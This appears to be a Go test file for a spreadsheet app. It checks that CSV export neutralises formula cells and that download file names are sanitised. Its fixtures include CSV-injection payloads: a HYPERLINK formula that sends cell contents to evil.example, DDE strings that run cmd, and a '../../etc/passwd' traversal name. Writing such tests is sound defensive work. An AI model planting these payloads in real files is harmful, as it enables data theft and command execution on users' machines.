package handlers_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/scratchpad/scratchpad/internal/accounts"
	"github.com/scratchpad/scratchpad/internal/apptest"
	"github.com/scratchpad/scratchpad/internal/values"
	"github.com/scratchpad/scratchpad/internal/workbooks"
)

// formulaCells are values a spreadsheet would run if a CSV held them as they
// are, with the text a safe export must write for each.
var formulaCells = []struct{ stored, safe string }{
	{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
	{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
	{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
	{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	// A plain number is data whatever its column: it cannot hold a formula.
	{"-2", "-2"},
	{"+1.5", "+1.5"},
	{"plain text", "plain text"},
}

// mustFormulaTable creates a table holding formulaCells in a text column,
// one per record, beside a number column holding -2.
func mustFormulaTable(t *testing.T, inst *apptest.Instance, ownerID, wbID, name string) workbooks.Table {
	t.Helper()
	ctx := context.Background()
	table, err := inst.App.Workbooks.CreateTable(ctx, ownerID, wbID, workbooks.TableInput{Name: name, Columns: []workbooks.ColumnInput{
		{Name: "Note", Type: values.Text},
		{Name: "Amount", Type: values.Number},
	}})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range formulaCells {
		if _, err := inst.App.Workbooks.CreateRecord(ctx, ownerID, wbID, table.ID, map[string]any{"Note": c.stored, "Amount": -2}); err != nil {
			t.Fatal(err)
		}
	}
	return table
}

// csvRows writes the rows expected of an export of mustFormulaTable, taking
// each note from pick.
func csvRows(pick func(stored, safe string) string) string {
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Write([]string{"Note", "Amount"}) //nolint:errcheck // a strings.Builder
	for _, c := range formulaCells {
		w.Write([]string{pick(c.stored, c.safe), "-2"}) //nolint:errcheck // a strings.Builder
	}
	w.Flush()
	return b.String()
}

// TestCSVExportNeutralizesFormulas checks that an export, from the page or
// the API, writes cells a spreadsheet would run with a leading single quote
// (numbers, such as the -2 of a number column, are left as they are), and
// that values=exact writes every value as stored.
func TestCSVExportNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	f := mustCSVFixture(t, "formulas@example.com")
	table := mustFormulaTable(t, f.inst, f.user.ID, f.wb.ID, "Notes")
	safe := csvRows(func(_, safe string) string { return safe })
	exact := csvRows(func(stored, _ string) string { return stored })

	exportURL := "/workbooks/" + f.wb.ID + "/tables/" + table.ID + "/export.csv"
	if r := f.browser.Get(exportURL); r.Status != http.StatusOK || r.Body != safe {
		t.Fatalf("page export %d:\n%q\nwant:\n%q", r.Status, r.Body, safe)
	}
	if r := f.browser.Get(exportURL + "?values=safe"); r.Body != safe {
		t.Fatalf("page export, values=safe:\n%q", r.Body)
	}
	if r := f.browser.Get(exportURL + "?values=exact"); r.Status != http.StatusOK || r.Body != exact {
		t.Fatalf("page export, values=exact %d:\n%q\nwant:\n%q", r.Status, r.Body, exact)
	}
	if r := f.browser.Get(exportURL + "?values=raw"); r.Status != http.StatusUnprocessableEntity {
		t.Fatalf("values=raw: %d", r.Status)
	}

	// The grid offers both exports and says what each is for.
	page := f.browser.Get("/workbooks/" + f.wb.ID + "/tables/" + table.ID)
	links := map[string]string{"export-csv": "/export.csv", "export-csv-exact": "/export.csv?values=exact"}
	for id, suffix := range links {
		link := page.TestID(id)
		if href, _ := link.Attr("href"); !strings.HasSuffix(href, suffix) {
			t.Errorf("%s href %q, want …%s", id, href, suffix)
		}
	}
	if help := page.TestID("export-help").Text(); !strings.Contains(help, "formula") || !strings.Contains(help, "Exact values") {
		t.Errorf("export help %q does not say what each export does", help)
	}

	_, token := MustUserWithToken(t, f.inst, "formulas-api@example.com", false, accounts.ScopeRead, accounts.ScopeWrite)
	apiUser, err := f.inst.App.Accounts.FindUserByEmail(context.Background(), "formulas-api@example.com")
	if err != nil {
		t.Fatal(err)
	}
	wb, err := f.inst.App.Workbooks.CreateWorkbook(context.Background(), apiUser.ID, "API")
	if err != nil {
		t.Fatal(err)
	}
	apiTable := mustFormulaTable(t, f.inst, apiUser.ID, wb.ID, "Notes")
	s := wbSession{t: t, api: newAPIClient(t, f.inst), token: token}
	path := "/api/v1/workbooks/" + wb.ID + "/tables/" + apiTable.ID + "/export.csv"
	if r := s.call(http.MethodGet, path, ""); r.Status != http.StatusOK || string(r.Body) != safe {
		t.Fatalf("API export %d:\n%q", r.Status, r.Body)
	}
	if r := s.call(http.MethodGet, path+"?values=exact", ""); r.Status != http.StatusOK || string(r.Body) != exact {
		t.Fatalf("API export, values=exact %d:\n%q", r.Status, r.Body)
	}
}

// TestCSVExportFileName checks the download's Content-Disposition: the
// table's name ending in .csv once (tables imported from a file are named
// after it), with anything unsafe in a header or a path replaced, and the
// UTF-8 name in filename* (RFC 6266).
func TestCSVExportFileName(t *testing.T) {
	t.Parallel()
	f := mustCSVFixture(t, "filenames@example.com")
	tests := []struct{ table, want string }{
		{"sales.csv", `attachment; filename="sales.csv"; filename*=UTF-8''sales.csv`},
		{"Sales.CSV", `attachment; filename="Sales.csv"; filename*=UTF-8''Sales.csv`},
		{"Q1 report", `attachment; filename="Q1 report.csv"; filename*=UTF-8''Q1%20report.csv`},
		{`a/b\c"d;e`, `attachment; filename="a_b_c_d_e.csv"; filename*=UTF-8''a_b_c_d_e.csv`},
		{`Café "menu"`, `attachment; filename="Caf_ _menu.csv"; filename*=UTF-8''Caf%C3%A9%20_menu.csv`},
		{"../../etc/passwd", `attachment; filename="etc_passwd.csv"; filename*=UTF-8''etc_passwd.csv`},
	}
	for _, tt := range tests {
		table, err := f.inst.App.Workbooks.CreateTable(context.Background(), f.user.ID, f.wb.ID, workbooks.TableInput{
			Name: tt.table, Columns: []workbooks.ColumnInput{{Name: "a", Type: values.Text}}})
		if err != nil {
			t.Fatal(err)
		}
		r := f.browser.Get("/workbooks/" + f.wb.ID + "/tables/" + table.ID + "/export.csv")
		if got := r.Header.Get("Content-Disposition"); got != tt.want {
			t.Errorf("table %q: Content-Disposition\n%s\nwant\n%s", tt.table, got, tt.want)
		}
	}
}
